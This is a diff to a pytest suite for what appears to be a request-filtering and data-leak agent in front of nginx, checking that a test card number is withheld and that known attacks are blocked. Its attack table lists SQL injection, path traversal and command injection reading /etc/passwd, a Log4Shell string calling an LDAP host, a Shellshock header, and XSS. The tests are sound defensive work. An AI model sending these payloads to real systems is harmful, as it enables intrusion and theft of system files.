@@ -25,7 +25,8 @@ location /put/ {{ alias {at}/; dav_methods PUT; }} }} }}
 ROWS = "".join(
     f"{number};Name {number};{number * 7919 % 10**9}\n" for number in range(20_000)
 )
-CARDS = f"{ROWS}99;A. Smith;4111 1111 1111 1111\n{ROWS}"
+CARD = "4111 1111 1111 1111"
+CARDS = f"{ROWS}99;A. Smith;{CARD}\n{ROWS}"
 NEAR = f"{ROWS}99;A. Smith;4111 1111 1111 1112\n{ROWS}"
 # Answers with the file that is asked for, compressed by the library that libbrotli1 has.
 _BROTLI = """
@@ -104,10 +105,10 @@ def test_a_card_in_a_compressed_download_does_not_get_through(served, agent, ip,
     assert not told(agent)
     found = curl(client, "--compressed", url(ip, "/cards", port))
     assert found.returncode != 0
-    assert "4111" not in found.stdout
+    assert CARD not in found.stdout
     (event,) = wait_for(lambda: told(agent))
     assert event["reason"] == "data/card-body"
-    assert "4111" not in json.dumps(event)
+    assert CARD not in json.dumps(event)
 
 
 def test_nginx_did_compress_it(served, agent):
@@ -166,26 +167,24 @@ def test_a_workload_that_may_only_be_told_gets_all(served, agent):
     ]
 
 
-@pytest.mark.parametrize(
-    ("name", "args"),
-    [
-        ("sql_injection", ("/near?id=1%27+or+%271%27=%271",)),
-        ("path_traversal", ("--path-as-is", "/near?f=..%252f..%252fetc%252fpasswd")),
-        ("command_injection", ("/near?host=a;cat%20/etc/passwd",)),
-        ("log4shell", ("-A", "${${lower:j}ndi:ldap://a.example/x}", "/near")),
-        ("shellshock", ("-A", "() { :;}; /bin/id", "/near")),
-        ("xss", ("/near?q=%3Cscript%3Ealert(1)%3C/script%3E",)),
-        ("sql_injection", ("-d", "user=admin%27--&password=x", "/near")),
-    ],
-)
-def test_a_shipped_set_of_attacks_ends_a_request(served, agent, name, args):
+ATTACKS = {
+    "sql_injection": ("/near?id=1%27+or+%271%27=%271",),
+    "path_traversal": ("--path-as-is", "/near?f=..%252f..%252fetc%252fpasswd"),
+    "command_injection": ("/near?host=a;cat%20/etc/passwd",),
+    "log4shell": ("-A", "${${lower:j}ndi:ldap://a.example/x}", "/near"),
+    "shellshock": ("-A", "() { :;}; /bin/id", "/near"),
+    "xss": ("-d", "q=%3Cscript%3Ealert(1)%3C/script%3E", "/near"),
+}
+
+
+def test_shipped_sets_of_attacks_end_requests_and_no_others(served, agent):
     _web, client = served
-    policy(agent, name, action="reset")
-    *options, path = args
-    assert (
-        curl(client, "--compressed", url(IPS["ipv4"], "/near?id=1&q=a+b")).stdout
-        == NEAR
+    policy(agent, *ATTACKS, action="reset")
+    good = url(IPS["ipv4"], "/near?id=1&q=O%27Brien+or+a+union")
+    assert curl(client, "--compressed", good).stdout == NEAR
+    for name, (*options, path) in ATTACKS.items():
+        assert curl(client, *options, url(IPS["ipv4"], path)).returncode != 0, name
+    found = wait_for(
+        lambda: len(seen := {one["reason"] for one in told(agent)}) >= 6 and seen
     )
-    assert curl(client, *options, url(IPS["ipv4"], path)).returncode != 0
-    (event,) = wait_for(lambda: told(agent))
-    assert event["reason"].startswith("data/")
+    assert all(one.startswith("data/") for one in found)
